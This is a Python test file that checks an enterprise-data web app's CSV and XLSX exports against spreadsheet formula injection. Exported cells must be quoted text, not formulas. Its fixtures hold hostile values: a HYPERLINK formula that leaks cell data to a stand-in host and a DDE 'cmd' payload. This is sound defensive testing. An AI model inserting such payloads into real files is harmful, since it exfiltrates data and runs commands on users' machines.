"""Spreadsheet formula injection (issue 13, item 7 of the issue): a name that is a formula
is exported as text, in CSV and in XLSX; the batch files stay as the evaluator writes them."""
import csv
import io

import openpyxl

from tests.conftest import GOLDEN

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"y")'
HOSTILE = {"name": FORMULA, "park": "@SUM(1+1)*cmd|' /C calc'!A0", "industry": "+1+cmd"}


def hostile_records(tmp_path):
    with open(GOLDEN / "records.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    code = rows[0]["credit_code"]
    for r in rows:
        if r["credit_code"] == code:
            r.update(HOSTILE)
    path = tmp_path / "records.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path, code


def test_a_formula_name_is_exported_as_text(lite_park, tmp_path):
    p = lite_park
    path, code = hostile_records(tmp_path)
    assert p.upload(path, "records").status_code == 201
    assert p.upload(GOLDEN / "contracts.csv", "contracts").status_code == 201
    run_id = p.run()
    # CSV: the cell starts with a quote, so that a spreadsheet does not evaluate it
    text = p.get(f"/api/enterprises?run={run_id}&format=csv", "officer").get_data(as_text=True).lstrip("\ufeff")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["统一社会信用代码"] == code)
    assert row["企业名称"] == "'" + FORMULA
    assert row["所属园区"] == "'" + HOSTILE["park"] and row["所属行业"] == "'" + HOSTILE["industry"]
    assert not any(v.startswith(("=", "+", "@")) for r in csv.reader(io.StringIO(text)) for v in r)
    # XLSX: a text cell, not a formula
    data = p.get(f"/api/enterprises?run={run_id}&format=xlsx", "officer").data
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and FORMULA in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULA for c in cells)
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
    # other exports too: records, awards
    text = p.get(f"/api/enterprises/{code}/records?format=csv", "officer").get_data(as_text=True)
    assert "'" + FORMULA in text or '"\'=HYPERLINK' in text
    with open(path, encoding="utf-8") as f:
        negatives = {v for r in csv.DictReader(f) if r["credit_code"] == code for v in r.values() if v and v.startswith("-")}
    assert negatives and all(f",{v}," in text and f",'{v}," not in text for v in negatives)   # numbers stay numbers
    # the batch file keeps its bytes (it holds codes, numbers and clause ids only)
    scores = p.get(f"/api/runs/{run_id}/files/scores.csv", "officer").get_data(as_text=True)
    assert "HYPERLINK" not in scores and not scores.startswith("'")
